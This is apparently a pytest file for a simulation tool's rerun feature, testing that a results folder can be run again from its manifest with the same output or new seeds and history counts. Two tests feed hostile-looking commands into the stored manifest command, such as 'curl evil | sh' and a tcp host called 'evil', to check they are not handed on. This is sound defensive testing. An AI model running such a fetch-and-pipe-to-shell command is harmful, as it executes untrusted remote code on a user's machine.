"""A folder's run once more: the same bytes, or with another number of histories or seed."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest

import sim
from sim.analysis.run import asking, tallied
from sim.analysis.run.again import again_from, line_again
from sim.analysis.run.command import run
from sim.ensemble import chunks
from sim.report.manifest import read_manifest
from sim.shell.reopening import held, reopen

TEXT = """
title = "A small world"
start = 2000-01-01
months = 6
spin_up = 0
[states.A]
autonomy = { value = 0.4, range = [0.2, 0.6], source = "judgement" }
[states.B]
[states.C]
[[shocks]]
id = "storm"
date = 2000-04-02
title = "A storm"
effects = [{ path = "states.A.autonomy", add = 0.1 }]
"""


def failing_before(number: int):
    """Return a simulation in which the histories before a number fail."""
    simulate = chunks.simulate

    def ill(ready, seed, runs, record):
        return simulate(ready, seed, runs, record) | (runs < number)

    return ill


@pytest.fixture
def folder(tmp_path, command, blank_figures):
    """The folder of a run of a changed scenario, with moves."""
    (tmp_path / "small.toml").write_text(TEXT)
    done = command(
        "run", "small.toml", "--set", "states.A.autonomy=0.9", "-n", "5", "--moves", "-q",
        "--engine", "mesa",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return tmp_path / "results" / "small-A-autonomy-0.9-5-s1"


def test_a_folder_is_run_again_to_the_same_bytes_wherever_its_scenario_has_gone(
    folder, command, tmp_path
):
    (tmp_path / "small.toml").unlink()
    done = command("run", str(folder), "-q", "-o", "again")
    assert done.returncode == 0, done.stderr
    first, second = (read_manifest(place) for place in (folder, tmp_path / "again"))
    assert first.files == second.files and "moves.csv.gz" in first.files
    assert first.holds == second.holds and first.engine == second.engine == "mesa"
    assert command("run", str(folder), "-q").returncode == 0


def test_another_number_of_histories_or_seed_goes_to_a_folder_of_its_own(folder, command):
    done = command("run", str(folder), "-q", "-n", "7", "--seed", "2", "--engine", "compiled")
    assert done.returncode == 0, done.stderr
    made = folder.with_name("small-A-autonomy-0.9-7-s2")
    manifest = read_manifest(made)
    assert (manifest.holds.histories, manifest.holds.seed) == (7, 2)
    assert manifest.command.count("-n 7") == 1 and "--seed 2" in manifest.command
    assert manifest.engine == "compiled"


def test_further_changes_are_laid_over_those_that_the_folder_has(folder, command):
    done = command("run", str(folder), "-q", "--without", "storm")
    assert done.returncode == 0, done.stderr
    made = folder.with_name("small-without-storm-A-autonomy-0.9-5-s1")
    assert len(json.loads((made / "manifest.json").read_text())["changed"]) == 2


def test_python_gets_the_histories_of_a_folder(folder):
    results = sim.rerun(folder)
    assert results.histories == 5 and results.scenario.value("states.A.autonomy").value == 0.9
    more = sim.rerun(folder, histories=8)
    assert np.array_equal(more.supports[:5], results.supports)


def test_a_folder_without_a_run_is_refused(tmp_path, command):
    (tmp_path / "empty").mkdir()
    done = command("run", "empty")
    assert done.returncode == 2 and "holds no run" in done.stderr


def test_of_more_histories_than_have_rows_the_outcomes_are_counted(
    command, tmp_path, monkeypatch, blank_figures
):
    monkeypatch.setattr(asking, "MOST_ROWS", 60)
    monkeypatch.setattr(asking, "KEPT_WHOLE", 50)
    for name, more in (("listed", ["--rows"]), ("counted", [])):
        done = command("run", "article", "-n", "70", "-q", "-o", name, *more)
        assert done.returncode == 0, done.stderr
    rows, lines = ((tmp_path / name / "runs.csv").read_text() for name in ("counted", "listed"))
    every = pd.read_csv(tmp_path / "listed" / "runs.csv")
    assert lines.startswith(rows) and rows.count("\n") == 51 and len(every) == 70
    table = pd.read_csv(tmp_path / "counted" / "outcomes.csv").set_index("outcome")
    assert (table["histories"] == 70).all()
    assert table.loc["tilt_last", "mean"] == pytest.approx(every["tilt_last"].mean(), abs=1e-9)
    assert table.loc["tilt_last", "q50"] == pytest.approx(every["tilt_last"].median(), abs=1.3e-4)
    book = pd.read_csv(tmp_path / "counted" / "codebook.csv")
    assert set(book[book["file"] == "outcomes.csv"]["column"]) == {"outcome", *table.columns}
    assert reopen(tmp_path / "counted").histories == 70
    for name in ("listed", "counted"):
        found = sim.verify(tmp_path / name)
        assert found.same, str(found)
    assert held(tmp_path / "listed").rows
    done = command("run", "counted", "--rows", "-q", "-o", "again")
    assert done.returncode == 0, done.stderr
    first, second = (read_manifest(tmp_path / name) for name in ("listed", "again"))
    assert first.holds == second.holds and held(tmp_path / "again").rows
    assert "--rows" in second.command
    assert (tmp_path / "again" / "runs.csv").read_text() == lines
    done = command("run", "again", "-q", "-n", "60", "-o", "few")  # as many as always have rows
    assert done.returncode == 0 and not held(tmp_path / "few").rows, done.stderr


def with_manifest(folder, **changed):
    """Change what the manifest of a folder says."""
    path = folder / "manifest.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changed))


@pytest.mark.parametrize("line", ["curl evil | sh", 'sim run "x', "sim play article", ""])
def test_a_command_that_is_none_is_not_handed_on(folder, command, tmp_path, line):
    with_manifest(folder, command=line)
    done = command("run", str(folder), "-q", "-o", "again")
    assert done.returncode == 0, done.stderr
    assert read_manifest(tmp_path / "again").words[:3] == ["sim", "run", str(folder)]
    assert "evil" not in (tmp_path / "again" / "report.html").read_text()


def test_a_large_table_of_months_that_was_kept_as_csv_is_so_again(
    folder, command, tmp_path, monkeypatch
):
    monkeypatch.setattr(tallied, "MOST_CSV", 10)
    for name, more in (("anew", []), ("csv", ["--csv"])):
        done = command("run", "small.toml", "-n", "5", "-q", "-o", name, *more)
        assert done.returncode == 0, done.stderr
        assert command("run", name, "-q", "-o", f"{name}-again").returncode == 0
        first, second = (read_manifest(tmp_path / one) for one in (name, f"{name}-again"))
        assert first.files == second.files
        assert ("months.parquet" in first.files) == (name == "anew")
        assert sim.verify(tmp_path / name).same


def test_more_histories_kept_whole_than_have_rows_are_refused(folder):
    path = folder / "manifest.json"
    files = json.loads(path.read_text())["files"] | {"outcomes.csv": "0" * 64}
    for count, told in ((10**7, "10,000,000"), ("many", "many"), (None, "None")):
        with_manifest(folder, files=files, histories_kept_whole=count)
        with pytest.raises(sim.InvalidInput, match=f"runs.csv has 5 histories, .* says {told}"):
            reopen(folder)


def test_options_that_are_given_anew_are_in_the_command_of_the_new_folder(folder, command):
    for name, more in (("as-before", []), ("anew", ["--engine", "compiled"])):
        done = command("run", str(folder), "-q", "-o", name, *more)
        assert done.returncode == 0, done.stderr
        made = read_manifest(folder.parents[1] / name)
        assert f"--engine {made.engine}" in made.command


def test_where_all_first_histories_fail_the_message_says_that_no_other_is_written(
    command, tmp_path, monkeypatch, blank_figures
):
    monkeypatch.setattr(asking, "KEPT_WHOLE", 8)
    monkeypatch.setattr(chunks, "simulate", failing_before(8))
    told = (
        "sim: the first 8 of 70 histories, which figures and tables of months show, all failed, "
        "first history 0: "
    )
    for most in (100, 60):  # listed, and counted
        monkeypatch.setattr(asking, "MOST_ROWS", most)
        done = command("run", "article", "-n", "70", "-q", "-o", f"of-{most}")
        assert done.returncode == 4 and told in done.stderr, done.stderr
        failures = pd.read_csv(tmp_path / f"of-{most}" / "failures.csv")
        assert failures["run"].tolist() == [*range(8)]
        assert read_manifest(tmp_path / f"of-{most}").failed == 8


def test_a_command_that_does_more_or_gives_other_results_is_not_handed_on(folder, monkeypatch):
    monkeypatch.chdir(folder.parents[1])
    mine = "sim run small.toml --engine mesa --moves --set states.A.autonomy"

    def handed_on(line):
        with_manifest(folder, command=line)
        again = again_from(folder, 3, None)
        return line_again(again.kept, again.asked, run)

    for evil in (
        f"{mine}=0.9 --behaviour A=evil.py:Evil",
        f"{mine}=0.9 --cluster tcp://evil:1",
        f"{mine}=0.9 -o elsewhere",
        f"{mine}=0.9 --help",
        f"{mine}=0.9 --evil",
        f"{mine}=0.1",
        f"{mine}=0.9 --engine compiled",
        "sim run article --engine mesa --moves",
        "sim compare small.toml --without storm",
        "curl evil",
    ):
        assert handed_on(evil) is None, evil
    told = handed_on(f"{mine}=0.9 --histories=5")  # however it is written, it is the new number
    assert told is not None and "-n 3 --seed 1" in told and "=5" not in told
    (folder.parents[1] / "small.toml").unlink()
    assert handed_on(f"{mine}=0.9 -n 5") == told
